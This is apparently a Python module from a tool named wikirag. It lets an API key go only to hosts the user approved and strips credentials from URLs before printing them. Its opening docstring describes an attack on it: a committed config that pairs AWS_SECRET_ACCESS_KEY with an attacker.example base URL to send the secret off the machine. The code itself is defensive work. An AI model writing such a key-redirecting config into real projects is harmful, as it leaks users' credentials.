"""Which API key may go to which host: the user's choice, never a repository file's.

A config file is data from the repository: whoever can commit ``baseline.yaml`` chooses
``llm.api_key_env`` and ``llm.base_url``. Without a check, ``api_key_env:
AWS_SECRET_ACCESS_KEY`` plus ``base_url: https://attacker.example/v1`` would send that
variable off the machine as a bearer token after a ``git pull``. So a key is sent only
along a pair (variable, host) the user approved:

- by default: the section's own variable (``OPENAI_API_KEY`` for the LLM and embeddings,
  ``RERANK_API_KEY`` for the reranker) to a loopback host (a local server, the tests'
  127.0.0.1 servers) or to the host of the user's own ``OPENAI_BASE_URL`` (environment or
  ``.env``: the user's files, not the repository's);
- ``WIKIRAG_APPROVED_KEYS=VAR@host,host2`` in the environment (a bare host means the
  section's own variable);
- the user's approvals file ``keys.yaml`` in the user's config dir (``$WIKIRAG_CONFIG_DIR``,
  else ``$XDG_CONFIG_HOME/wikirag``, else ``~/.config/wikirag``), written by
  ``wikirag keys allow --key-env VAR --host HOST``. It lives outside the repository on
  purpose: a list under ``experiments/<kb>/`` could be committed with the new host in it.

Any other pair is refused with a ConfigError before the key is read or a request is made,
saying the command that approves it. A variable that is not set sends nothing and needs no
approval. ``redact_url`` / ``redact_urls``: ``user:password@`` in a URL is never printed.
"""

from __future__ import annotations

import ipaddress
import os
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit, urlunsplit

import yaml

from engine.atomic import atomic_update_text
from engine.errors import ConfigError
from engine.yaml_safe import load_mapping, short

DEFAULT_KEY_ENV = "OPENAI_API_KEY"  # llm and embedding sections
DEFAULT_RERANK_KEY_ENV = "RERANK_API_KEY"
APPROVED_ENV = "WIKIRAG_APPROVED_KEYS"
ENV_BASE_URL = "OPENAI_BASE_URL"
CONFIG_DIR_ENV = "WIKIRAG_CONFIG_DIR"  # where the user's own state lives (tests point it away)
APPROVALS_FILE = "keys.yaml"
ALLOW_COMMAND = "wikirag keys allow"
_LOOPBACK_NAMES = frozenset({"localhost", "localhost.localdomain", "ip6-localhost"})
_VAR = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
# scheme://user[:password]@host — the credentials part of any URL inside free text
_URL_CREDENTIALS = re.compile(r"(?P<scheme>\b[a-zA-Z][a-zA-Z0-9+.-]*://)[^/@\s'\"]+@")


def host_of(url: str) -> str:
    """The lower-case host name of ``url`` ("" when it has none or cannot be parsed)."""
    try:
        return (urlsplit(url.strip()).hostname or "").lower()
    except ValueError:
        return ""


def is_loopback(host: str) -> bool:
    if host in _LOOPBACK_NAMES:
        return True
    try:
        return ipaddress.ip_address(host).is_loopback
    except ValueError:
        return False


def user_config_dir(env: Mapping[str, str] | None = None) -> Path:
    """``$WIKIRAG_CONFIG_DIR``, else ``$XDG_CONFIG_HOME/wikirag``, else ``~/.config/wikirag``."""
    environ = os.environ if env is None else env
    if environ.get(CONFIG_DIR_ENV):
        return Path(environ[CONFIG_DIR_ENV])
    base = environ.get("XDG_CONFIG_HOME") or str(Path.home() / ".config")
    return Path(base) / "wikirag"


def approvals_path(env: Mapping[str, str] | None = None) -> Path:
    return user_config_dir(env) / APPROVALS_FILE


def _check_pair(key_env: str, host: str, where: str) -> tuple[str, str]:
    if not _VAR.match(key_env):
        raise ConfigError(f"{where}: {short(key_env)} is not an environment variable name")
    if not host or "/" in host or "@" in host or not host.strip():
        raise ConfigError(f"{where}: {short(host)} is not a host name (e.g. api.example.com)")
    return key_env, host.strip().lower()


def read_approvals(env: Mapping[str, str] | None = None) -> list[tuple[str, str]]:
    """The (variable, host) pairs in the user's approvals file; [] when there is none.

    A damaged file is a ConfigError naming it: silently ignoring it would refuse keys the
    user approved, silently guessing could approve one they did not.
    """
    path = approvals_path(env)
    if not path.is_file():
        return []
    data = load_mapping(path.read_text(encoding="utf-8"), str(path))
    items = data.get("approved", [])
    if not isinstance(items, list):
        raise ConfigError(f"{path}: 'approved' must be a list of {{key_env, host}} entries")
    pairs = []
    for i, item in enumerate(items):
        if not isinstance(item, dict) or not all(
            isinstance(item.get(k), str) for k in ("key_env", "host")
        ):
            raise ConfigError(f"{path}: approved[{i}] must have string key_env and host")
        pairs.append(_check_pair(item["key_env"], item["host"], f"{path}: approved[{i}]"))
    return pairs


def _env_approvals(environ: Mapping[str, str], default_key_env: str) -> set[tuple[str, str]]:
    pairs = set()
    for entry in environ.get(APPROVED_ENV, "").split(","):
        if entry.strip():
            var, sep, host = entry.strip().rpartition("@")
            pairs.add(_check_pair(var if sep else default_key_env, host, APPROVED_ENV))
    return pairs


def key_approved(
    key_env: str,
    url: str,
    *,
    default_key_env: str,
    user_base_url: str = "",
    env: Mapping[str, str] | None = None,
) -> bool:
    """Whether the user lets the value of ``key_env`` go to the host of ``url``."""
    environ = os.environ if env is None else env
    host = host_of(url)
    if not host:
        return False
    if key_env == default_key_env and (is_loopback(host) or host == host_of(user_base_url)):
        return True
    pair = (key_env, host)
    return pair in _env_approvals(environ, default_key_env) or pair in read_approvals(environ)


def check_key_destination(
    section: str,
    key_env: str,
    url: str,
    *,
    default_key_env: str,
    user_base_url: str = "",
    env: Mapping[str, str] | None = None,
) -> None:
    """Raise ConfigError (one line, with the approving command) unless ``key_approved``.

    ``section``: the config section named in the message ("llm", "embedding", "rerank").
    Call it before reading the key, and only when ``key_env`` is set (else nothing is sent).
    """
    if key_approved(
        key_env, url, default_key_env=default_key_env, user_base_url=user_base_url, env=env
    ):
        return
    host = host_of(url) or "?"
    raise ConfigError(
        f"{section}.api_key_env = {key_env!r} would send that variable to {host} "
        f"({section}.base_url {redact_url(url)!r}), which you have not approved; nothing was "
        f"sent. If you trust this config, approve it with `{ALLOW_COMMAND} --key-env {key_env} "
        f"--host {host}` (or {APPROVED_ENV}={key_env}@{host})"
    )


def allow(key_env: str, host: str, env: Mapping[str, str] | None = None) -> Path:
    """Add (``key_env``, ``host``) to the user's approvals file (atomically, under a lock);
    returns the file's path. Approving a pair twice keeps one entry."""
    pair = _check_pair(key_env, host, "approval")
    return _rewrite(lambda pairs: pairs if pair in pairs else [*pairs, pair], env)


def revoke(key_env: str, host: str, env: Mapping[str, str] | None = None) -> Path:
    pair = _check_pair(key_env, host, "approval")
    return _rewrite(lambda pairs: [p for p in pairs if p != pair], env)


def _rewrite(change: Any, env: Mapping[str, str] | None) -> Path:
    path = approvals_path(env)

    def update(_old: str) -> str:
        pairs = change(read_approvals(env))  # re-read under the lock: another writer's wins
        body = yaml.safe_dump(
            {"approved": [{"key_env": k, "host": h} for k, h in pairs]}, sort_keys=False
        )
        return f"# API keys wikirag may send, and where to ({ALLOW_COMMAND} writes this)\n{body}"

    atomic_update_text(path, update)
    return path


def redact_url(url: str) -> str:
    """``url`` without ``user:password@`` (kept as ``***@`` so it is clear something was cut)."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return redact_urls(url)
    if "@" not in parts.netloc:
        return url
    return urlunsplit(parts._replace(netloc="***@" + parts.netloc.rsplit("@", 1)[1]))


def redact_urls(text: str) -> str:
    """``text`` with the credentials of every URL in it replaced by ``***``."""
    return _URL_CREDENTIALS.sub(r"\g<scheme>***@", text)
